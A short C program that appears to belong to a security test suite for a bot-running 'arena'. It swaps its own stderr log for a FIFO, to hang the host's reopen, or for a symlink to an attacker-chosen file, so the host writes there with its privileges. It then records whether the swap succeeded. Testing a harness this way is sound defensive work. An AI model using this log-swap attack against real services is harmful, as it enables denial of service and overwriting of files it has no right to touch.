/*
 * attack_log_swap - put a FIFO, or a symbolic link to a file of the
 * attacker's choice, where its stderr log is, then exit: the arena reopens
 * the log for the next start. A FIFO with no reader would hang that open
 * (and every resume); a link would have the arena write, as whoever runs
 * it, wherever it points. attack_log_swap TOKEN LOG fifo|symlink [TARGET]
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

void attack_main(int argc, char **argv)
{
	const char *log = argc > 3 ? argv[2] : NULL;
	bool fifo = argc > 3 && strcmp(argv[3], "fifo") == 0;
	int ret;

	if (!log || (!fifo && argc < 5)) {
		attack_report("log-swap", false, "usage: TOKEN LOG fifo|symlink [TARGET]");
		exit(2);
	}
	if (unlink(log) < 0 && errno != ENOENT) {
		attack_report("log-swap", false, "cannot remove %s: %s", log, strerror(errno));
		return;
	}
	ret = fifo ? mkfifo(log, 0666) : symlink(argv[4], log);
	if (ret < 0)
		attack_report("log-swap", false, "cannot make %s: %s", log, strerror(errno));
	else
		attack_report("log-swap", true, "%s is now a %s", log, fifo ? "FIFO" : "link");
	/* a fresh start of this bot makes the arena open the log again */
	exit(3);
}
